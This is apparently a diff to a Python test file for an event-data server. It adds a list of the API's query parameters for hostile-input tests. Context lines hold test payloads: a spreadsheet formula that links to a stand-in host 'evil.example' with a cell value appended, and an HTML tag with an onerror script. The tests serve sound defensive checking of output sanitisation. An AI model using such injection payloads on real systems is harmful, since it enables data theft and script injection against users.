@@ -16,6 +16,26 @@ from eventwire.serve import ServeSettings
 from eventwire.store.repository import Store
 from tests.serve.conftest import Text, free_port, serve_in_thread
 
+# Every query parameter of GET /api/events: the hostile-input tests send bad bytes in each.
+FILTERS = (
+    "bbox",
+    "from",
+    "to",
+    "event_type",
+    "sub_event_type",
+    "actor",
+    "country",
+    "source",
+    "modality",
+    "min_fatalities",
+    "q",
+    "sort",
+    "cursor",
+    "limit",
+    "format",
+    "include_unrealized",
+)
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HTML = '<img src="x" class="injected" onerror="window.__pwned=1">'
 SHORT_HTML = '<b class="injected">B</b>'  # fits event_type (40 characters)
